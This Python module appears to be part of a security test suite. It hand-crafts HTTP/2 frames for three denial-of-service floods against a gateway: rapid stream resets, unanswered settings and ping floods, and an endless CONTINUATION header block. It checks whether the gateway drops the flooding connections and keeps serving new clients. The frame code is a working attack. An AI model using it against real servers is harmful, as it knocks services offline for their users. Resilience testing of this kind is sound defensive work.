"""Floods of HTTP/2 frames, written by hand: streams that are reset at once, headers without end."""

from __future__ import annotations

import struct
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import repeat

from attack.model import Outcome
from attack.target import Target

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_CONNECTIONS = 4
_RESETS = 4000
_FRAMES = 100_000
# The answers fill it soon, so that they wait in the gateway.
_RECEIVE_BYTES = 4096
_CONTINUATIONS = 4000
_SEND_SECONDS = 5.0


def rapid_resets(target: Target) -> Outcome:
    """Streams that are opened and reset at once."""
    headers = _request_headers()
    frames = (
        _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, headers)
        + _frame(_RESET, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 2 * _RESETS, 2)
    )
    return _flood(target, b"".join(frames))


def settings_and_pings(target: Target) -> Outcome:
    """Settings and pings, each of which asks for an answer that is never read."""
    frames = (_frame(_SETTINGS, 0, 0, b""), _frame(_PING, 0, 0, bytes(8)))
    return _flood(target, b"".join(frames) * (_FRAMES // 2))


def endless_headers(target: Target) -> Outcome:
    """A header block that never ends, in CONTINUATION frames."""
    part = b"\x00\x01x\x7f\x81\x07" + b"y" * 262
    frames = _frame(_HEADERS, _END_STREAM, 1, _request_headers())
    return _flood(target, frames + _frame(_CONTINUATION, 0, 1, part * 8) * _CONTINUATIONS)


def _flood(target: Target, frames: bytes) -> Outcome:
    """Send the frames over several connections; the gateway must serve a newcomer at once."""
    with ThreadPoolExecutor(_CONNECTIONS) as executor:
        ended = sum(executor.map(_is_ended_by, repeat(target, _CONNECTIONS), repeat(frames)))
    with target.http() as client:
        status = client.get("/tokens/1").status_code
    seen = f"{ended} of {_CONNECTIONS} connections ended; a newcomer gets {status}"
    return Outcome(seen, status == 200 and ended == _CONNECTIONS)


def _is_ended_by(target: Target, frames: bytes) -> bool:
    """Whether the gateway ends the connection instead of reading on."""
    with target.connect(_RECEIVE_BYTES) as connection:
        connection.settimeout(_SEND_SECONDS)
        try:
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + frames)
        except TimeoutError:
            return False
        except OSError:
            return True
        return _ends(connection.recv)


def _ends(receive: Callable[[int], bytes]) -> bool:
    with suppress(TimeoutError):
        try:
            while receive(65536):
                pass
        except ConnectionResetError:
            return True
        return True
    return False


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _request_headers() -> bytes:
    """`GET / ` over http in HPACK's static table, and a literal authority."""
    authority = b"sori"
    return b"\x82\x86\x84\x41" + bytes([len(authority)]) + authority
